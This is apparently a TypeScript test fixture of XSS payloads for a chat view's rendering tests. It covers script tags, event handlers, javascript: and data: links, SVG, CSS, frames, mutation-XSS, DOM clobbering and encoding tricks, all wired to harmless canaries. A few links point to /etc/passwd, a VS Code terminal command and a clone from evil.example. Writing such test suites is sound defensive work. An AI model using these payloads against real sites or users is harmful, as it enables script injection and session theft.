/**
 * Hostile strings for the chat view's rendering tests: each would run script, load something,
 * navigate, or restyle the view if it were rendered as markup instead of text or sanitized
 * markdown. Every one that runs calls one of the canaries the tests install: `alert`/`confirm`/
 * `prompt`, the flag `__pwned`, or a request to the canary server (`CANARY` below, replaced with
 * its origin by `payloadText`).
 */

/** What kind of attack a payload is. */
export type XssCategory =
	| 'script'
	| 'event handler'
	| 'javascript: link'
	| 'other scheme'
	| 'svg'
	| 'css'
	| 'frame or object'
	| 'markdown-encoded html'
	| 'broken html'
	| 'dom clobbering'
	| 'template or encoding';

export interface XssPayload {
	readonly id: string;
	readonly category: XssCategory;
	/** The text, with `CANARY` standing for the canary server's origin. */
	readonly text: string;
}

const list: Array<[XssCategory, string]> = [
	// Script elements.
	['script', '<script>alert(1)</script>'],
	['script', '<SCRIPT SRC=CANARY/script.js></SCRIPT>'],
	['script', '<script>window.__pwned = "script"</script>'],
	['script', '"><script>alert(document.domain)</script>'],
	['script', '</textarea><script>alert("textarea")</script>'],
	['script', '<scr<script>ipt>alert("nested")</scr</script>ipt>'],
	['script', '<script type="module">import("CANARY/module.js")</script>'],
	['script', '</pre></code><script>window.__pwned = "escape"</script>'],
	// Event handler attributes.
	['event handler', '<img src=x onerror=alert(1)>'],
	['event handler', '<img src="x" onerror="window.__pwned = \'img\'">'],
	['event handler', '<body onload=alert("body")>'],
	['event handler', '<div onmouseover="alert(\'hover\')">hover me</div>'],
	['event handler', '<input autofocus onfocus=alert("focus")>'],
	['event handler', '<details open ontoggle=alert("toggle")><summary>x</summary></details>'],
	['event handler', '<video><source onerror="alert(\'video\')"></video>'],
	['event handler', '<audio src=x onerror=alert("audio")>'],
	['event handler', '<marquee onstart=alert("marquee")>m</marquee>'],
	['event handler', '<button onclick="alert(\'button\')">Click</button>'],
	['event handler', '<a onmouseover=alert("anchor")>point here</a>'],
	['event handler', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
	['event handler', '<x onclick=alert("custom")>custom element</x>'],
	// javascript: links, in markdown and HTML.
	['javascript: link', '[click me](javascript:alert(1))'],
	['javascript: link', '[click me](JaVaScRiPt:alert("case"))'],
	['javascript: link', '[click me](javascript&#58;alert("entity colon"))'],
	['javascript: link', '[click me](&#106;avascript:alert("entity j"))'],
	['javascript: link', '[click me](java%0ascript:alert("newline"))'],
	['javascript: link', '<a href="javascript:alert(\'html\')">html link</a>'],
	['javascript: link', '<javascript:alert("autolink")>'],
	['javascript: link', '[reference link][r]\n\n[r]: javascript:alert("reference")'],
	['javascript: link', '![image](javascript:alert("image"))'],
	['javascript: link', '[x](https://example.com "\\" onmouseover=\\"alert(\'title\')")'],
	// Other schemes a link could carry.
	['other scheme', '[vb](vbscript:msgbox(1))'],
	['other scheme', '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
	['other scheme', '[file](file:///etc/passwd)'],
	['other scheme', '[command](command:workbench.action.terminal.new)'],
	['other scheme', '[vscode](vscode://vscode.git/clone?url=https://evil.example/x.git)'],
	// SVG.
	['svg', '<svg onload=alert("svg")>'],
	['svg', '<svg><script>alert("svg script")</script></svg>'],
	['svg', '<svg><a xlink:href="javascript:alert(\'xlink\')"><text x="20" y="20">XSS</text></a></svg>'],
	['svg', '<svg><animate onbegin=alert("animate") attributeName=x dur=1s></svg>'],
	['svg', '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=\'fo\'</script>"></iframe></foreignObject></svg>'],
	['svg', '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
	// CSS.
	['css', '<style>@import "CANARY/import.css";</style>'],
	['css', '<div style="background:url(CANARY/background)">styled</div>'],
	['css', '<link rel=stylesheet href=CANARY/link.css>'],
	['css', '<style>*{background:url("CANARY/star")}</style>'],
	['css', '<p style="position:fixed;inset:0;z-index:9999;background:red">overlay</p>'],
	['css', '<div style="width:expression(alert(\'expression\'))">ie</div>'],
	// Frames, objects, forms, meta.
	['frame or object', '<iframe src="javascript:alert(\'iframe\')"></iframe>'],
	['frame or object', '<iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe>'],
	['frame or object', '<object data="javascript:alert(\'object\')"></object>'],
	['frame or object', '<embed src="data:text/html,<script>alert(\'embed\')</script>">'],
	['frame or object', '<form action="javascript:alert(\'form\')"><input type=submit value=Send></form>'],
	['frame or object', '<meta http-equiv="refresh" content="0;url=javascript:alert(\'meta\')">'],
	['frame or object', '<base href="javascript:alert(\'base\')//">'],
	// HTML hidden inside markdown constructs.
	['markdown-encoded html', '```html\n<script>alert("fenced")</script>\n```'],
	['markdown-encoded html', '`<img src=x onerror=alert("inline code")>`'],
	['markdown-encoded html', '```"><img src=x onerror=alert("info string")>\ncode\n```'],
	['markdown-encoded html', '&lt;script&gt;alert("entities")&lt;/script&gt;'],
	['markdown-encoded html', '[<img src=x onerror=alert("link text")>](https://example.com)'],
	['markdown-encoded html', '**<img src=x onerror=alert("bold")>**'],
	['markdown-encoded html', '> <script>alert("quote")</script>'],
	['markdown-encoded html', '| a | b |\n|---|---|\n| <img src=x onerror=alert("table")> | x |'],
	['markdown-encoded html', '- item\n  <iframe src="CANARY/list"></iframe>'],
	// Broken and malformed HTML.
	['broken html', '<img src=x onerror=alert("unclosed")//'],
	['broken html', '<<script>alert("double");//<</script>'],
	['broken html', '<a href="javascript:alert(\'unterminated\')"'],
	['broken html', '<img """><script>alert("quotes")</script>">'],
	['broken html', '<!--<img src="--><img src=x onerror=alert("comment")//">'],
	['broken html', '<noscript><p title="</noscript><img src=x onerror=alert(\'noscript\')>">'],
	['broken html', '<title><img src=x onerror=alert("title")></title>'],
	['broken html', '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")>'],
	// DOM clobbering.
	['dom clobbering', '<a id="__pwned" name="__pwned" href="CANARY/clobber">clobber</a>'],
	['dom clobbering', '<form id="app"><input name="append"></form>'],
	['dom clobbering', '<img name="getElementById" src="x">'],
	// Templates and encodings.
	['template or encoding', '{{constructor.constructor("alert(\'template\')")()}}'],
	['template or encoding', '${alert("template literal")}'],
	['template or encoding', '\\u003cscript\\u003ealert("escaped")\\u003c/script\\u003e'],
	['template or encoding', '%3Cscript%3Ealert("percent")%3C%2Fscript%3E'],
	['template or encoding', '<scr\u0000ipt>alert("null byte")</scr\u0000ipt>'],
	['template or encoding', '\u202e<img src=x onerror=alert("bidi")>'],
];

/** Every payload, with a stable id (`x01`…). */
export const XSS_PAYLOADS: readonly XssPayload[] = list.map(([category, text], i) => ({ id: `x${String(i + 1).padStart(2, '0')}`, category, text }));

/** The payload's text with `CANARY` replaced by the canary server's origin. */
export function payloadText(payload: XssPayload, canaryOrigin: string): string {
	return payload.text.split('CANARY').join(canaryOrigin);
}
